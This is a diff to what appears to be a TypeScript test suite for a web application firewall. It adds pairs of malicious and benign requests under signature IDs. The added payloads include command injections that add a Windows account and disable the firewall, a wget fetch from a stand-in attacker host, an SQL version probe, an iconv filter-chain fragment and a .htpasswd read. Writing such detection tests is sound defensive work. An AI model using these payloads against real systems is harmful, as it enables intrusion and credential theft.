@@ -124,6 +124,48 @@ const FAMILIES: Array<[string, EdgeRequest, string, EdgeRequest]> = [
   ['a pipe tacked onto a word', get('/pay?mode=insert%7C'), 'RCE-300', get('/pay?mode=insert')],
   ['a number with a trailing slash', get('/pay?price=85%2F'), 'SQLI-303', get('/pay?date=2024%2F05%2F01')],
   ['a double-encoded quote', get('/item?id=1%2527'), 'SQLI-301', get('/r?to=%252Fhome%253Fa%253D1')],
+  [
+    'a Windows account created after a separator',
+    form('host=127.0.0.1%20%26%20net%20user%20hacker%20Passw0rd%20%2Fadd'),
+    'RCE-141',
+    form('note=Ask%20the%20net%20user%20group%20to%20add%20me'),
+  ],
+  [
+    'a firewall switched off through netsh',
+    get('/ping?host=%3B%20netsh%20firewall%20set%20opmode%20disable'),
+    'RCE-141',
+    get('/search?q=netsh%20firewall%20tutorial'),
+  ],
+  [
+    'a value that is only a reconnaissance command',
+    get('/api?cmd=ifconfig'),
+    'RCE-152',
+    get('/api?topic=configuration'),
+  ],
+  [
+    'a backtick substitution nested in $( )',
+    json({ host: '$(`wget https://evil.example/x.sh`)' }),
+    'RCE-110',
+    json({ price: '$(12.50) with `code` in it' }),
+  ],
+  [
+    'a value that selects the database version',
+    get('/items?q=select%20version()%3B'),
+    'SQLI-132',
+    get('/items?q=select%20a%20version%20of%20the%20app'),
+  ],
+  [
+    'a php://filter iconv chain link given on its own',
+    json({ page: 'convert.iconv.IBM278.IBM861' }),
+    'LFI-120',
+    json({ page: 'convert.currency.eur.usd' }),
+  ],
+  [
+    'a parameter that names a hidden credentials file under a directory',
+    get('/view?file=members%2F.htpasswd'),
+    'LFI-130',
+    get('/view?file=members%2Fprofile.html'),
+  ],
 ];
 
 describe('WAF engine: signature families at sensitivity 70', () => {
